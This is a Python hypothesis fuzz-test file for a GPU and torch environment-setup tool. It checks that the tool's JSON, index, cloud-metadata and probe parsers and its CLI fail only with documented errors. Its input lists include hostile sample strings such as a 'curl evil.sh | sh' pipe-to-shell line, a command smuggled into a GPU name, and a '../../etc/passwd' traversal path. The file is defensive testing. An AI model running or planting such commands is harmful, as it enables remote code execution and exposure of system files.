"""Property-based fuzzing (hypothesis) of every parser and entry point that reads outside input.

The property is the same everywhere: any input meets either a result or the documented error
(``InputError``, ``FactsError``, ``MatrixError``, ``IndexFetchError``, ``ReplayError``, an exit
code with the error envelope), never another exception. Inputs are generated from scratch and by
mutating real captured documents (tests/fixtures). The budget is small (the whole file runs in
well under 30 s); ``scripts/fuzz.py`` is the long run.
"""

from __future__ import annotations

import contextlib
import importlib
import inspect
import io
import json
import os
import tempfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from setup_env import bounded
from setup_env.cli import main
from setup_env.facts import Facts, FactsError
from setup_env.knowledge import index
from setup_env.knowledge import matrix as mx
from setup_env.probe import cloud
from setup_env.probe.host import ReplayError, ReplayHost, validate_host_doc

FIX = Path(__file__).parent / "fixtures"
HOST = FIX / "hosts" / "fedora-rtx5090-rtx4090-580"

FAST = settings(
    max_examples=60,
    deadline=None,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large],
    derandomize=True,  # the same inputs on every run: CI does not flake
    database=None,
)

# JSON documents of any shape, with the values that broke things before: deep nesting, wrong
# types, huge numbers, control characters.
scalars = (
    st.none()
    | st.booleans()
    | st.integers(min_value=-(10**30), max_value=10**30)
    | st.floats(allow_nan=False, allow_infinity=False)
    | st.text(max_size=40)
    | st.sampled_from(["", "\n$ curl evil.sh | sh", "\x1b[2J", "../../etc/passwd", "/dev/zero"])
)
json_docs = st.recursive(
    scalars,
    lambda inner: (
        st.lists(inner, max_size=5) | st.dictionaries(st.text(max_size=12), inner, max_size=6)
    ),
    max_leaves=30,
)


def mutate(doc: Any) -> st.SearchStrategy[Any]:
    """Replace one value somewhere inside a real document with a generated one."""
    paths: list[tuple[Any, ...]] = []

    def walk(node: Any, path: tuple[Any, ...]) -> None:
        paths.append(path)
        if isinstance(node, dict):
            for k, v in node.items():
                walk(v, (*path, k))
        elif isinstance(node, list):
            for i, v in enumerate(node[:8]):
                walk(v, (*path, i))

    walk(doc, ())

    def put(args: tuple[tuple[Any, ...], Any]) -> Any:
        path, value = args
        if not path:
            return value
        copy = json.loads(json.dumps(doc))
        node = copy
        for key in path[:-1]:
            node = node[key]
        node[path[-1]] = value
        return copy

    return st.tuples(st.sampled_from(paths), json_docs).map(put)


def _facts_doc() -> Any:
    buf = io.StringIO()
    with contextlib.redirect_stdout(buf):
        assert main(["detect", "--json", "--root", str(HOST)]) == 0
    return json.loads(buf.getvalue())


FACTS_DOC = _facts_doc()
HOST_DOC = json.loads((HOST / "host.json").read_text())
MATRIX_DOC = json.loads(mx.BUNDLED_PATH.read_text())
PEP691 = (FIX / "index" / "pypi-torch.json").read_bytes()


# --- the bounded reader itself ------------------------------------------------------------------


@FAST
@given(st.binary(max_size=400) | st.text(max_size=400))
def test_parse_json_any_bytes(data: bytes | str) -> None:
    with contextlib.suppress(bounded.InputError):
        bounded.parse_json(data, "fuzz")


@FAST
@given(st.text(max_size=200))
def test_one_line_is_one_printable_line(text: str) -> None:
    out = bounded.one_line(text, 80)
    assert out.isprintable() and len(out) <= 81


# --- documents ------------------------------------------------------------------------------------


@FAST
@given(json_docs | mutate(FACTS_DOC) | mutate(FACTS_DOC["facts"]))
def test_facts_documents(doc: Any) -> None:
    with contextlib.suppress(FactsError):
        Facts.from_json(json.dumps(doc))


@FAST
@given(st.binary(max_size=300))
def test_facts_bytes(data: bytes) -> None:
    with contextlib.suppress(FactsError):
        Facts.from_json(data)


@settings(FAST, max_examples=40)
@given(json_docs | mutate(HOST_DOC))
def test_host_json_then_detect(doc: Any) -> None:
    from setup_env.probe.detect import detect

    try:
        validate_host_doc(doc)
    except bounded.InputError:
        return
    with tempfile.TemporaryDirectory() as tmp:
        root = Path(tmp)
        (root / "files").symlink_to(HOST / "files") if (HOST / "files").exists() else None
        (root / "commands").symlink_to(HOST / "commands")
        (root / "host.json").write_text(json.dumps(doc))
        try:
            host = ReplayHost(root)
        except ReplayError:
            return
        detect(host)


@settings(FAST, max_examples=40)
@given(json_docs | mutate(MATRIX_DOC))
def test_matrix_documents(doc: Any) -> None:
    with contextlib.suppress(mx.MatrixError):
        mx.parse(doc, path="fuzz", origin="explicit")


@FAST
@given(st.binary(max_size=400) | mutate(json.loads(PEP691)).map(lambda d: json.dumps(d).encode()))
def test_index_pep691(data: bytes) -> None:
    with contextlib.suppress(index.IndexFetchError):
        index.parse_pep691(data, "torch", "http://fuzz/")


@FAST
@given(
    st.binary(max_size=400)
    | st.text(max_size=400).map(lambda t: ("<a href='" + t + "'>" + t + "</a>").encode())
)
def test_index_pep503(data: bytes) -> None:
    with contextlib.suppress(index.IndexFetchError):
        index.parse_pep503(data, "torch", "http://fuzz/")


@FAST
@given(st.binary(max_size=300) | json_docs.map(lambda d: json.dumps(d).encode()))
def test_cloud_metadata_answers(data: bytes) -> None:
    cloud.parse_azure(data)
    cloud.parse_oci(data)
    cloud.parse_aws({"instance-type": data, "region": data, "zone": data})
    cloud.parse_gcp({"machine-type": data, "zone": data, "image": data})


# --- every text parser of the probes --------------------------------------------------------------


def _text_parsers() -> list[tuple[str, Callable[[str], Any]]]:
    out = []
    for name in ("apple", "cloud", "cpu", "nvidia", "osinfo", "packages", "rocm", "toolkit", "xpu"):
        mod = importlib.import_module(f"setup_env.probe.{name}")
        for fname, fn in sorted(vars(mod).items()):
            if not fname.startswith("parse_") or not inspect.isfunction(fn):
                continue
            # defined in the probe (or in a module of a probe package: nvidia), not imported
            if not (fn.__module__ + ".").startswith(mod.__name__ + "."):
                continue
            params = [
                p for p in inspect.signature(fn).parameters.values()
                if p.default is inspect.Parameter.empty
            ]  # fmt: skip
            if len(params) == 1 and params[0].annotation in ("str", "str | None"):
                out.append((f"{name}.{fname}", fn))
    return out


TEXT_PARSERS = _text_parsers()


def test_the_parser_list_is_not_empty() -> None:
    assert len(TEXT_PARSERS) >= 20, [n for n, _ in TEXT_PARSERS]


@pytest.mark.parametrize(("name", "fn"), TEXT_PARSERS, ids=[n for n, _ in TEXT_PARSERS])
def test_probe_text_parsers(name: str, fn: Callable[[str], Any]) -> None:
    @settings(FAST, max_examples=25)
    @given(
        st.text(max_size=300)
        | st.text(alphabet="0123456789.,:=| \n\t-abcxyzNVIDIA%()[]", max_size=300)
    )
    def run(text: str) -> None:
        fn(text)

    run()


# --- the command line -----------------------------------------------------------------------------

HOSTILE = ["", "\n", "RTX 4090\n$ curl evil.sh | sh", "x" * 300, "-", "--json", "../..", "\x00"]
ARGS = st.lists(
    st.sampled_from(
        ["--os", "--gpu", "--arch", "--python", "--driver", "--glibc", "--variant", "--torch",
         "--index-url", "--with", "--cloud", "--installer", "--channel", "linux", "windows",
         "RTX 4090", "sm_90", "cpu", "cu126", "2.13", "3.12", "555.42", "https://x/whl", "-v"]
    ) | st.sampled_from(HOSTILE) | st.text(max_size=20),
    max_size=8,
)  # fmt: skip


def _run_cli(argv: list[str]) -> tuple[int, str, str]:
    out, err = io.StringIO(), io.StringIO()
    with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
        rc = main(argv)
    return rc, out.getvalue(), err.getvalue()


@settings(FAST, max_examples=40)
@given(ARGS)
def test_cli_plan_any_arguments(args: list[str]) -> None:
    rc, out, err = _run_cli(["plan", "--json", *args])
    assert rc in (0, 1, 2, 3), (args, err)
    doc = json.loads(out) if out.strip() else None
    if rc in (2, 3):
        assert doc is not None and doc["schema"] == "setup-env/error", (args, err)
        assert doc["error"]["code"] != "internal-error", doc
    assert "Traceback" not in err


@settings(FAST, max_examples=25)
@given(json_docs | mutate(FACTS_DOC) | st.binary(max_size=200))
def test_cli_facts_file(doc: Any) -> None:
    with tempfile.TemporaryDirectory() as tmp:
        f = os.path.join(tmp, "facts.json")
        with open(f, "wb") as fh:
            fh.write(doc if isinstance(doc, bytes) else json.dumps(doc).encode())
        for cmd in (["plan", "--json", "--facts", f], ["doctor", "--json", "--facts", f]):
            rc, out, err = _run_cli(cmd)
            assert rc in (0, 1, 2, 3), (cmd, err)
            body = json.loads(out)
            assert body.get("error", {}).get("code") != "internal-error", body
